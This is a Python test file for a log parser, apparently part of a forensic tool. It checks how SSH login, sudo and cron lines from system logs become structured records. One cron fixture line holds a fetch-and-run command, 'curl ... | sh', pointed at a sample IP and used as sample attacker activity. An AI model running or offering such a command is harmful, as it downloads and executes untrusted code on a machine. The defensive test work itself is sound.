from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hemostat.model.records import LogEvent, Login, TypedCommand
from parse.logs.made_logs import WHEN, read

ACCEPTED = "Accepted password for root from 198.51.100.7 port 40 ssh2"


@pytest.mark.requirement("B3")
def test_a_line_gives_a_login_with_its_place() -> None:
    reading = read(f"Nov 20 02:59:59 web sshd[7]: {ACCEPTED}\n")
    (login,) = reading.records
    assert isinstance(login, Login)
    assert (login.account, login.pid, login.source.line) == ("root", 7, 1)
    assert login.started == WHEN - timedelta(seconds=1)


def test_the_stamp_of_debian_12_has_its_own_zone() -> None:
    reading = read(f"2026-11-20T10:59:59.25+08:00 web sshd-session[7]: {ACCEPTED}\n")
    (login,) = reading.records
    assert isinstance(login, Login)
    assert login.started == datetime(2026, 11, 20, 2, 59, 59, 250_000, tzinfo=UTC)


def test_the_year_is_found_from_the_end_of_the_file() -> None:
    reading = read(
        f"Dec 30 10:00:00 web sshd[7]: {ACCEPTED}\nJan  2 10:00:00 web sshd[7]: {ACCEPTED}\n",
        datetime(2026, 1, 2, 11, tzinfo=UTC),
    )
    years = [
        each.started.year for each in reading.records if isinstance(each, Login) and each.started
    ]
    assert years == [2025, 2026]


def test_a_clock_that_was_not_set_at_boot_makes_no_gap_and_no_year() -> None:
    reading = read("Nov 20 01:00:00 pi x: a\nJan  1 00:00:05 pi x: boot\nNov 20 01:05:00 pi x: b\n")
    assert reading.span.first == WHEN - timedelta(hours=2)
    assert reading.span.gap_starts == ()


def test_failures_alike_are_counted_and_the_first_is_kept() -> None:
    line = "Nov 20 02:59:59 web sshd[7]: Failed password for root from 198.51.100.7 port 40 ssh2\n"
    (login,) = read(line * 30).records
    assert isinstance(login, Login)
    assert (login.count, login.outcome, login.source.line) == (30, "failed", 1)


def test_lines_of_another_form_are_counted_as_unread() -> None:
    reading = read("Nov 20 02:59:59 web x: a\nno stamp\n\nNov 20 02:59:59 web x: b\n  at java\n")
    assert (reading.span.unread, reading.span.entries) == (2, 2)


def test_a_silence_is_told_with_both_its_ends() -> None:
    lines = [
        f"Nov 19 {hour:02d}:{minute:02d}:00 web x: a"
        for hour in range(24)
        for minute in (0, 10, 20, 30, 40, 50)
    ]
    del lines[13:33]
    reading = read("\n".join(lines))
    assert reading.span.gap_starts == (datetime(2026, 11, 19, 2, tzinfo=UTC),)
    assert reading.span.gap_ends == (datetime(2026, 11, 19, 5, 30, tzinfo=UTC),)


def test_a_job_that_cron_ran_often_is_one_command() -> None:
    line = "Nov 20 02:59:59 web CRON[7]: (root) CMD (curl -s http://198.51.100.7/a | sh)\n"
    (typed,) = read(line * 50).records
    assert isinstance(typed, TypedCommand)
    assert (typed.via, typed.account) == ("cron", "root")


def test_sudo_gives_an_event_and_the_command() -> None:
    line = "Nov 20 02:59:59 web sudo: ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id\n"
    event, typed = read(line).records
    assert isinstance(event, LogEvent)
    assert isinstance(typed, TypedCommand)
    assert (event.kind, typed.command) == ("sudo", "/bin/id")


@given(st.binary(max_size=2_000))
def test_any_bytes_are_entries_or_unread(data: bytes) -> None:
    reading = read(data)
    lines = [line for line in data.split(b"\n") if line]
    assert reading.span.unread <= len(lines)


@given(st.lists(st.sampled_from([ACCEPTED, "x", "Failed password for a from 1.2.3.4 port 5 ssh2"])))
def test_no_line_in_the_right_form_is_lost(messages: list[str]) -> None:
    reading = read("".join(f"Nov 20 02:00:00 web sshd[7]: {each}\n" for each in messages))
    told = sum(each.count for each in reading.records if isinstance(each, Login))
    assert told == sum(each != "x" for each in messages)
    assert reading.span.entries == len(messages)
